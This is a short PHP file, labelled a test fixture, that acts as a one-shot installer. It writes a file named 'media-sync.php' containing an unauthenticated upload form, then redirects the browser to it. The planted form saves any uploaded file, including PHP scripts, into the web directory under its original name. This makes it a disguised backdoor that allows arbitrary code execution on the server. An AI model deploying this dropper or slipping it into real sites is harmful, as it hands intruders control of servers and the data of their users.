<?php
// Test fixture: a one-shot "installer" that plants a self-contained uploader next to itself.
$target = __DIR__ . '/media-sync.php';
$body = <<<'PLANT'
<?php
if (!empty($_FILES['pkg']['tmp_name'])) {
    $dest = dirname(__FILE__) . '/' . $_FILES['pkg']['name'];
    move_uploaded_file($_FILES['pkg']['tmp_name'], $dest);
    print 'stored ' . htmlspecialchars($dest);
}
?>
<form method="post" enctype="multipart/form-data"><input type="file" name="pkg"><input type="submit" value="sync"></form>
PLANT;
$fp = fopen($target, 'wb');
fputs($fp, $body);
fclose($fp);
header('Location: media-sync.php');
